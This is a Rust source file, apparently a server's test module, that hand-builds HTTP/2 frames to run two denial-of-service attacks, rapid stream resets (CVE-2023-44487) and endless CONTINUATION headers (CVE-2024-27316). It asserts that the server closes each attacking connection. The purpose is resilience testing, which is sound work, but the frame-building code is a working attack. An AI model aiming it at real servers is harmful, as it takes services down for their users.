//! HTTP/2 attacks: streams that are reset at once (CVE-2023-44487), and endless headers (CVE-2024-27316).

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, Ordering::SeqCst};
use std::time::Duration;

use tokio_rustls::rustls::pki_types::CertificateDer;

use crate::http::tls;

/// The number of writes on one connection, if the server accepts that many.
const BATCHES: u32 = 100;
/// The number of frames in a write.
const BATCH: u32 = 100;
/// `GET https://localhost/` in HPACK (RFC 7541 appendix A).
const HEADERS: &[u8] = b"\x82\x87\x84\x41\x09localhost";
/// The connection preface of a client (RFC 9113 section 3.4).
pub(super) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// The numbers of frame types, flags and an error code (RFC 9113 sections 6 and 7).
pub(super) const HEADERS_FRAME: u8 = 1;
pub(super) const RST_STREAM: u8 = 3;
pub(super) const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
pub(super) const END_STREAM: u8 = 1;
pub(super) const END_HEADERS: u8 = 4;
pub(super) const CANCEL: u32 = 8;

pub(super) fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Returns whether the server closes a connection before or after all batches are sent.
fn is_cut(
    address: SocketAddr,
    trusted: &CertificateDer<'static>,
    batch: impl Fn(u32) -> Vec<u8>,
) -> bool {
    let mut stream = tls::connect(address, tls::client(trusted, &[b"h2"])).unwrap();
    let patience = Some(Duration::from_secs(20));
    stream.sock.set_write_timeout(patience).unwrap();
    stream.sock.set_read_timeout(patience).unwrap();
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).unwrap();
    let waited_in_vain = |error: std::io::Error| error.kind() == ErrorKind::WouldBlock;
    match (0..BATCHES).try_for_each(|number| stream.write_all(&batch(number))) {
        Err(error) => !waited_in_vain(error),
        Ok(()) => !stream.read_to_end(&mut Vec::new()).is_err_and(waited_in_vain),
    }
}

/// Opens and resets streams, one connection after another.
pub(crate) fn rapid_resets(
    address: SocketAddr,
    trusted: &CertificateDer<'static>,
    ended: &AtomicBool,
) -> String {
    let pair = |stream: u32| {
        let open = frame(HEADERS_FRAME, END_STREAM | END_HEADERS, stream, HEADERS);
        [open, frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat()
    };
    let batch = |number: u32| -> Vec<u8> {
        (0..BATCH).flat_map(|index| pair((number * BATCH + index) * 2 + 1)).collect()
    };
    again_and_again("rapid resets", ended, || is_cut(address, trusted, batch))
}

/// Begins headers and never ends them.
pub(crate) fn endless_headers(
    address: SocketAddr,
    trusted: &CertificateDer<'static>,
    ended: &AtomicBool,
) -> String {
    // The header is a literal without indexing, with one name and one value (RFC 7541 section 6.2.2).
    let line = b"\x00\x01x\x01y".repeat(200);
    let batch = |number: u32| -> Vec<u8> {
        let first = frame(HEADERS_FRAME, END_STREAM, 1, HEADERS);
        let more = (0..BATCH).flat_map(|_| frame(CONTINUATION, 0, 1, &line));
        if number == 0 { first.into_iter().chain(more).collect() } else { more.collect() }
    };
    again_and_again("endless headers", ended, || is_cut(address, trusted, batch))
}

/// Repeats an attack on new connections; the server must close each.
fn again_and_again(what: &str, ended: &AtomicBool, is_cut: impl Fn() -> bool) -> String {
    let mut connections = 0;
    while connections == 0 || !ended.load(SeqCst) {
        assert!(is_cut(), "{what} were borne");
        connections += 1;
        std::thread::sleep(Duration::from_millis(20));
    }
    format!("{what} on {connections} connections, all cut")
}
